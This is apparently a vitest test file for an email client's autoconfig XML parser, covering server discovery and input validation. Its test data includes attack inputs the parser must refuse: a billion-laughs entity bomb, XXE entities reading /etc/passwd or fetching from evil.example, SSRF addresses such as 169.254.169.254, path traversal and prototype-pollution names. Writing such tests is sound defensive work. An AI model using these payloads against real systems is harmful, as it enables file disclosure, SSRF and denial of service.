import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readAutoconfig } from '../../../src-main/core/discovery/autoconfig-file.ts'
import { hostName } from '../../../src-main/core/discovery/names.ts'
import { autoconfigXml } from '../../servers/autoconfig-host.ts'

const reader = { email: 'marie@cedre.example', local: 'marie', domain: 'cedre.example' }
const read = (xml: string) => readAutoconfig(xml, reader)
const host = 'imap.cedre.example'

test('a file of version 1.1 names both servers and the login name', () => {
  const more = `
    <outgoingServer type="smtp">
      <hostname>smtp.%EMAILDOMAIN%</hostname><port>587</port><socketType>STARTTLS</socketType>
      <username>%EMAILADDRESS%</username>
    </outgoingServer>`
  expect(read(autoconfigXml({ host: 'imap.%EMAILDOMAIN%', username: '%EMAILLOCALPART%', more }))).toEqual({
    imap: { host, port: 993, security: 'tls', user: 'marie' },
    smtp: { host: 'smtp.cedre.example', port: 587, security: 'starttls', user: 'marie@cedre.example' }
  })
})

test('a file of version 1.2 names the address book too, within the provider or beside it', () => {
  const book = (tag: string) =>
    `<${tag} type="carddav"><username>%EMAILADDRESS%</username><serverURL>https://dav.cedre.example/card/</serverURL></${tag}>`
  const carddav = { url: 'https://dav.cedre.example/card/', user: 'marie@cedre.example' }
  expect(read(autoconfigXml({ host, more: book('addressbook') }))).toMatchObject({ carddav })
  const beside = autoconfigXml({ host }).replace('</emailProvider>', `</emailProvider>${book('addressBook')}`)
  expect(read(beside)).toMatchObject({ carddav })
})

test.each([
  ['http://dav.cedre.example/'],
  ['https://127.0.0.1/'],
  ['https://marie:x@dav.cedre.example/'],
  ['file:///etc/passwd'],
  ['dav']
])('an address book at %s is passed over', (url) => {
  const more = `<addressbook type="carddav"><serverURL>${url}</serverURL></addressbook>`
  const found = read(autoconfigXml({ host, more }))
  expect(found).toMatchObject({ imap: { host } })
  expect(found).not.toHaveProperty('carddav')
})

test('POP, ports that are no mailbox’s and connections in clear are passed over for the first that will do', () => {
  const server = (type: string, name: string, port: string, socketType: string) =>
    `<incomingServer type="${type}"><hostname>${name}</hostname><port>${port}</port><socketType>${socketType}</socketType></incomingServer>`
  const xml = `<clientConfig><emailProvider>
    ${server('pop3', 'pop.cedre.example', '995', 'SSL')}
    ${server('imap', 'plain.cedre.example', '143', 'plain')}
    ${server('imap', 'smtp.cedre.example', '25', 'SSL')}
    ${server('imap', 'none.cedre.example', '', 'SSL')}
    ${server('imap', 'big.cedre.example', '70000', 'SSL')}
    ${server('imap', 'right.cedre.example', '143', 'STARTTLS')}
    ${server('imap', 'later.cedre.example', '993', 'SSL')}
  </emailProvider></clientConfig>`
  expect(read(xml)).toEqual({
    imap: { host: 'right.cedre.example', port: 143, security: 'starttls', user: 'marie@cedre.example' }
  })
})

test('the port decides how TLS begins, whatever is written', () => {
  expect(read(autoconfigXml({ host, port: 993, socketType: 'STARTTLS' }))).toMatchObject({
    imap: { port: 993, security: 'tls' }
  })
  expect(read(autoconfigXml({ host, port: 143, socketType: 'SSL' }))).toMatchObject({
    imap: { port: 143, security: 'starttls' }
  })
})

describe('a host that can’t be a public one is passed over', () => {
  test.each([
    ['localhost'],
    ['mail.localhost'],
    ['printer.local'],
    ['127.0.0.1'],
    ['[::1]'],
    ['169.254.169.254'],
    ['0x7f.1'],
    ['2130706433'],
    ['imap'],
    ['../../etc/passwd'],
    ['imap.cedre.example/../x'],
    ['imap.cedre.example:993'],
    ['marie@imap.cedre.example'],
    ['imap cedre.example'],
    ['imap.cedre.example\u0007'],
    ['imap.cedre.example\u202e'],
    ['-imap.cedre.example'],
    ['imap..cedre.example'],
    [`${'a'.repeat(64)}.example`],
    [`${'a.'.repeat(130)}example`],
    ['']
  ])('%j', (name) => expect(read(autoconfigXml({ host: name }))).toBeUndefined())
})

test('a name in other letters becomes its form in ASCII', () => {
  expect(read(autoconfigXml({ host: 'IMAP.Forêt.Example.' }))?.imap.host).toBe('imap.xn--fort-ipa.example')
})

test('a login name that can’t be one becomes the address', () => {
  for (const username of ['', '   ', 'x'.repeat(400), 'ma&#10;rie\u0000', '\u202emarie']) {
    expect(read(autoconfigXml({ host, username }))?.imap.user).not.toMatch(/\p{Cc}|\p{Cf}|x{400}|^\s*$/u)
  }
  expect(read(autoconfigXml({ host, username: 'D&apos;Arc &amp; &lt;fils&gt;' }))?.imap.user).toBe(
    "D'Arc & <fils>"
  )
})

const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`
).join('')}]>`

describe('a file with declarations is refused whole', () => {
  const good = autoconfigXml({ host }).replace(/^.*\n/, '')
  test.each([
    ['a bomb of entities', laughs + good.replace(host, '&lol9;')],
    [
      'a file of this computer',
      `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${good.replace(host, '&f;')}`
    ],
    [
      'a parameter entity from elsewhere',
      `<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x"> %p;]>${good}`
    ],
    ['a doctype alone', `<!DOCTYPE clientConfig>${good}`],
    ['a lower-case doctype', `<!doctype html>${good}`],
    ['a declaration further in', good.replace('<domain>', '<!ENTITY a "b"><domain>')]
  ])('%s', (_what, xml) => expect(read(xml)).toBeUndefined())
})

test('entities of its own making stay what they are', () => {
  expect(read(autoconfigXml({ host: '&lol;.cedre.example' }))).toBeUndefined()
  expect(read(autoconfigXml({ host, username: '&lol;' }))?.imap.user).toBe('&lol;')
})

test('elements within elements without end are no file', () => {
  expect(read('<clientConfig>'.repeat(5000))).toBeUndefined()
  const deep = '<a>'.repeat(2000) + '</a>'.repeat(2000)
  expect(read(autoconfigXml({ host, more: deep }))).toBeUndefined()
  expect(read(`${'<a>'.repeat(2000)}${autoconfigXml({ host })}${'</a>'.repeat(2000)}`)).toBeUndefined()
})

test('what isn’t such a file is nothing', () => {
  for (const text of [
    '',
    'not found',
    '<html><body>404</body></html>',
    '<clientConfig/>',
    '{"imap": 1}',
    '<',
    '\0'
  ])
    expect(read(text)).toBeUndefined()
  for (const name of ['__proto__', 'constructor', 'toString']) {
    expect(read(`<clientConfig><${name}><hostname>x</hostname></${name}></clientConfig>`)).toBeUndefined()
    expect(read(`<${name}/>`)).toBeUndefined()
  }
})

describe('whatever it is given', () => {
  const hosts = fc.oneof(fc.domain(), fc.ipV4(), fc.ipV6(), fc.string({ unit: 'binary' }))
  const ports = fc.oneof(fc.integer(), fc.double(), fc.string())
  const isSound = (xml: string) => {
    const found = read(xml)
    if (!found) return
    for (const server of [found.imap, ...(found.smtp ? [found.smtp] : [])]) {
      expect(server.host).toBe(hostName(server.host))
      expect([993, 143, 465, 587]).toContain(server.port)
      expect(server.security).toMatch(/^(tls|starttls)$/)
      expect(server.user).toMatch(/^[^\p{Cc}\p{Cf}]{1,320}$/u)
    }
  }

  test('a file never leads to a host or a port that can’t be', () => {
    fc.assert(
      fc.property(
        hosts,
        ports,
        fc.string(),
        fc.string({ unit: 'binary' }),
        (name, port, socketType, username) => {
          const xml = autoconfigXml({ host: name, socketType: `SSL${socketType.slice(0, 1)}`, username })
          isSound(xml.replace('>993<', `>${port}<`))
          isSound(xml)
        }
      )
    )
  })

  test('a file of which parts are missing, doubled or changed never fails', () => {
    const parts = autoconfigXml({ host, more: '<addressbook type="carddav"/>' }).split(/(?=<)/)
    fc.assert(
      fc.property(fc.shuffledSubarray([...parts, ...parts]), fc.string(), (some, noise) => {
        isSound(some.join(''))
        isSound(some.join(noise))
      })
    )
  })
})
